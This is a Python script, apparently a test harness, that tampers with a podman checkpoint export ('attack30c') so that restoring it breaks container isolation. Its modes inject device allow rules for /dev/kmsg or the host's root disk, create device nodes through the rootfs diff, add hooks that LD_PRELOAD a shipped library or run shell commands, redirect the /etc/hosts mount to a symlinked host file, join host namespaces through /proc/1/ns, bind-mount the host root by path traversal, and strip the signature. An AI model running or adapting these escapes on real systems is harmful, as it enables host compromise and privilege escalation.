"""attack30c: an edited copy of this node's own signed gpuckpt export (dump.sig kept), for podman's own
`restore --import`. usage: edit.py SRC OUT MODE
MODE rule:    linux.resources.devices gains `allow c 1:11 rw` (host /dev/kmsg) -- no linux.devices entry -- and
              rootfs-diff.tar gains the node /attack30c-dev (podman 4.3 mknods it applying the diff).
MODE nvidia:  as rule, and also a linux.devices node /dev/nvidia-attack30c c 1:11 (the NVIDIA-path exemption).
MODE nodeonly: the control: the node in rootfs-diff.tar alone, no cgroup rule, no device entry.
MODE nvidiaonly: the node in rootfs-diff.tar and the linux.devices entry /dev/nvidia-attack30c c 1:11, no cgroup rule
              (runc turns each linux.devices entry into a cgroup allow rule).
MODE hookenv: a createRuntime hook whose path is /usr/bin/gpuckpt-hook (exempt by path) with
              env LD_PRELOAD=<podman's userdata of the container>/attack30c.so, shipped at the archive's root.
MODE hookcase: a hook under the stage key "CreateRuntime" (Go's json matches keys case-insensitively).
MODE symbind: the recorded /etc/hosts bind's source moved from podman's run root to its graph root's userdata
              (both normalize to <self>/userdata/hosts), and the archive ships `hosts` there as a symlink to a host
              file (/var/tmp/attack30c/hostfile, root's, 0600).
MODE X-nosig: as X, checkpoint/gpuckpt-dump.sig removed (an unsigned dump: only restore:any lets it in).
MODE hostnet, hostpid, hostmnt: linux.namespaces network/pid/mount given path /proc/1/ns/{net,pid,mnt}.
MODE blk: as rule, the host's root disk (b 254:0, /dev/vda, ext4) read only.
MODE bindrel: a bind mount /attack30c-host <- /var/lib/containers/storage/overlay-containers/ID/userdata/../../../../../../ rw
"""
import io, json, sys, tarfile
import zstandard

src, out, mode = sys.argv[1:4]
NOSIG = mode.endswith("-nosig")  # the dump signature removed: an unsigned dump (restore:any)
mode = mode.removesuffix("-nosig")
SO = "/var/tmp/attack30c/attack30c.so"
cid = None
# rule/blk: the device (TYPE:MAJOR:MINOR:ACCESS); blk = rule with the host's root disk, read only (vda, b 254:0)
DEV = {"blk": "b:254:0:r"}.get(mode, "c:1:11:rw").split(":")
mode = "rule" if mode == "blk" else mode


def edit(spec):
    linux = spec.setdefault("linux", {})
    if mode in ("rule", "nvidia"):
        linux.setdefault("resources", {}).setdefault("devices", []).append(
            {"allow": True, "type": DEV[0], "major": int(DEV[1]), "minor": int(DEV[2]), "access": DEV[3]})
    if mode in ("nvidia", "nvidiaonly"):
        linux.setdefault("devices", []).append({"path": "/dev/nvidia-attack30c", "type": "c", "major": 1, "minor": 11,
                                                "fileMode": 0o666, "uid": 0, "gid": 0})
    if mode == "hookenv":
        ud = f"/var/lib/containers/storage/overlay-containers/{cid}/userdata"
        spec.setdefault("hooks", {}).setdefault("createRuntime", []).append(
            {"path": "/usr/bin/gpuckpt-hook", "args": ["gpuckpt-hook", "createRuntime"],
             "env": [f"LD_PRELOAD={ud}/attack30c.so ./attack30c.so"], "timeout": 60})
    if mode == "hookcase":
        spec.setdefault("hooks", {})["CreateRuntime"] = [
            {"path": "/bin/sh", "args": ["sh", "-c", "id > /var/tmp/attack30c/hookcase-ran"]}]
    if mode == "symbind":  # /etc/hosts from the graph root's userdata (<self>/userdata/hosts, as recorded)
        for mount in spec.get("mounts", []):
            if mount["destination"] == "/etc/hosts":
                mount["source"] = f"/var/lib/containers/storage/overlay-containers/{cid}/userdata/hosts"
    if mode in ("hostnet", "hostpid", "hostmnt"):  # join the host's namespace by path
        kind = {"hostnet": "network", "hostpid": "pid", "hostmnt": "mount"}[mode]
        for ns in linux.get("namespaces", []):
            if ns["type"] == kind:
                ns["path"] = f"/proc/1/ns/{ {'network': 'net', 'pid': 'pid', 'mount': 'mnt'}[kind] }"
    if mode == "bindrel":
        ud = f"/var/lib/containers/storage/overlay-containers/{cid}/userdata"
        spec.setdefault("mounts", []).append({"destination": "/attack30c-host", "type": "bind",
                                              "source": ud + "/../../../../../..", "options": ["rbind", "rw"]})
    return spec


def with_node(diff):
    o = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(diff)) as tin, tarfile.open(fileobj=o, mode="w", format=tarfile.PAX_FORMAT) as tout:
        for m in tin:
            tout.addfile(m, tin.extractfile(m) if m.isfile() else None)
        node = tarfile.TarInfo("attack30c-dev")
        node.type = tarfile.CHRTYPE if DEV[0] == "c" else tarfile.BLKTYPE
        node.devmajor, node.devminor, node.mode = int(DEV[1]), int(DEV[2]), 0o666
        tout.addfile(node)
    return o.getvalue()


with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as tin:
    members = [(m, tin.extractfile(m).read() if m.isfile() else None) for m in tin]
cid = next(json.loads(d)["id"] for m, d in members if m.name == "config.dump")
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, data in members:
        if m.name == "spec.dump":
            data = json.dumps(edit(json.loads(data))).encode()
        elif m.name == "config.dump":
            doc = json.loads(data); doc["spec"] = edit(doc["spec"]); data = json.dumps(doc).encode()
        elif m.name == "rootfs-diff.tar" and mode in ("rule", "nvidia", "nvidiaonly", "nodeonly"):
            data = with_node(data)
        elif m.name == "checkpoint/gpuckpt-dump.sig" and NOSIG:
            continue
        if data is not None:
            m.size = len(data); tout.addfile(m, io.BytesIO(data))
        else:
            tout.addfile(m)
    if mode == "symbind":  # podman unpacks the archive into that userdata: `hosts` a link to a host file
        info = tarfile.TarInfo("hosts"); info.type, info.linkname = tarfile.SYMTYPE, "/var/tmp/attack30c/hostfile"
        tout.addfile(info)
    if mode == "hookenv":
        data = open(SO, "rb").read()
        info = tarfile.TarInfo("attack30c.so"); info.size, info.mode = len(data), 0o755
        tout.addfile(info, io.BytesIO(data))
print(out, cid)
